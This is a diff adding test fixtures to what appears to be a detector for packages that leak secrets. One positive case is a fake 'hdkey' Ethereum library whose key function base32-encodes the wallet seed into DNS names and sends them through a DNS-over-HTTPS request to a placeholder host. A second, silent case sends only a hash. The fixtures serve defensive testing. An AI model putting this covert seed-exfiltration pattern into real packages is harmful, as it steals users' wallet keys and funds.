@@ -161,8 +161,27 @@ examine(givesAwaySecrets, {
       weight: 'strong',
       says: ['privateKey'],
     },
+    {
+      when: 'a seed is put into the names that a resolver is asked for',
+      files: {
+        'package.json': { name: 'hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
+        'index.js': `const { resolve } = require('./resolve'); exports.fromMasterSeed = seed => { resolve(seed); return seed.slice(0, 32); };`,
+        'resolve.js': `const b32 = u8 => { let out = ''; for (const b of u8) out += 'abcdefghijklmnopqrstuvwxyz234567'[b & 31]; return out; };
+          exports.resolve = u8 => { const labels = b32(u8).match(/.{1,50}/g).join('.'); Promise.resolve().then(() => fetch(\`https://doh.invalid/dns-query?name=\${labels}.s.cdn.invalid&type=TXT\`)); };`,
+      },
+      weight: 'strong',
+      says: ['sends seed'],
+    },
   ],
   silent: [
+    {
+      when: 'an account that is worked out of a seed is asked for',
+      files: {
+        'package.json': { name: 'hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
+        'index.js': `const { balance } = require('./balance'); exports.balanceOf = seed => balance(seed);`,
+        'balance.js': `const { createHash } = require('crypto'); exports.balance = u8 => fetch(\`https://rpc.invalid/balance?name=\${createHash('sha256').update(u8).digest('hex')}\`);`,
+      },
+    },
     {
       when: 'a function of another file signs with it',
       files: {
